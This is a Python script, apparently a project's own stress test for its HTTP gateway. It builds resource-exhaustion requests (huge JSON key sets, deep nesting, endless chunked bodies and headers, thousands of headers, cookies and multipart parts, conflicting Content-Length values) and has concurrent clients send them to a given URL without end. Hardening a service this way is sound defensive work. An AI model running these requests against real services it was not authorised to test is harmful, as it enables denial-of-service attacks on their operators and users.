"""Requests that are meant to hold up a gateway, and those who send them: `… -m …attacks URL CLIENTS`."""

from __future__ import annotations

import asyncio
import os
import sys
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

import orjson

KEYS = b"{" + b",".join(b'"k%d":1' % number for number in range(100_000)) + b"}"
FEW_KEYS = b"{" + b",".join(b'"k%d":1' % number for number in range(5_000)) + b"}"
JSON = b"POST /v1/search HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
CHUNK = b"2000\r\n" + b" " * 8192 + b"\r\n"
UNKNOWN = b"&".join(b"k%d" % number for number in range(1300))
REPORT = b"POST /images/i_aaaa2222/reports HTTP/1.1\r\nHost: a\r\n"
MANY_HEADERS = b"".join(b"a%d: b\r\n" % number for number in range(3000))
ATTACKS = {
    "100,000 keys": JSON + b"Content-Length: %d\r\n\r\n" % len(KEYS) + KEYS,
    "as many keys as fit": JSON + b"Content-Length: %d\r\n\r\n" % len(FEW_KEYS) + FEW_KEYS,
    "100 MB of blanks": JSON + b"Content-Length: 104857600\r\n\r\n" + b" " * 1_000_000,
    "a body without end": JSON + b"Transfer-Encoding: chunked\r\n\r\n" + CHUNK * 100,
    "nesting": JSON + b"Content-Length: 60000\r\n\r\n" + b"[" * 60_000,
    "unknown parameters": b"GET /v1/search?%s HTTP/1.1\r\nHost: a\r\n\r\n" % UNKNOWN,
    "preferences": b"GET /search HTTP/1.1\r\nHost: a\r\nAccept: %s\r\n\r\n" % (b"a/b," * 7000),
    "languages": b"GET /v1/search HTTP/1.1\r\nHost: a\r\nAccept-Language: %s\r\n\r\n" % (b"a," * 14_000),
    "tags": b"GET /v1/sections HTTP/1.1\r\nHost: a\r\nIf-None-Match: %s\r\n\r\n" % (b'"a",' * 7000),
    "cookies": b"GET /a/a_aatest HTTP/1.1\r\nHost: a\r\nCookie: %s\r\n\r\n" % (b"a=b;" * 7000),
    "headers": b"GET / HTTP/1.1\r\nHost: a\r\n" + MANY_HEADERS + b"\r\n",
    "headers without end": b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 1_000_000,
    "no ASCII": "GET /search?q=آسفي HTTP/1.1\r\nHost: a\r\n\r\n".encode(),
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "two lengths": JSON + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n{}",
    "parts": REPORT + b"Content-Type: multipart/form-data; boundary=x\r\n"
    b"Content-Length: 40000\r\n\r\n" + b"--x\r\n" * 8000,
    "fields": REPORT +
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n" + b"a=1&" * 15_000,
}  # fmt: skip


async def exchange(url: str, request: bytes) -> tuple[int, dict[str, Any]]:
    """The status and, of a problem, its members; the connection ends with it."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    try:
        writer.write(request)
        head = await reader.readuntil(b"\r\n\r\n")
        lines = head.decode().lower().split("\r\n")
        length = next(int(line.split(":")[1]) for line in lines if line.startswith("content-length:"))
        body = await reader.readexactly(length)
        problem = orjson.loads(body) if "content-type: application/problem+json" in lines else {}
        return int(lines[0].split()[1]), problem
    finally:
        writer.close()


async def attack(url: str, clients: int) -> None:
    """For ever; each client sends one after the other."""

    async def client(first: int) -> None:
        requests = list(ATTACKS.values())
        while True:
            for request in requests[first:] + requests[:first]:
                with suppress(OSError, asyncio.IncompleteReadError):
                    await exchange(url, request)

    await asyncio.gather(*(client(number % len(ATTACKS)) for number in range(clients)))


if __name__ == "__main__":
    os.nice(10)  # attackers have machines of their own; here they take no time from whom they attack
    asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
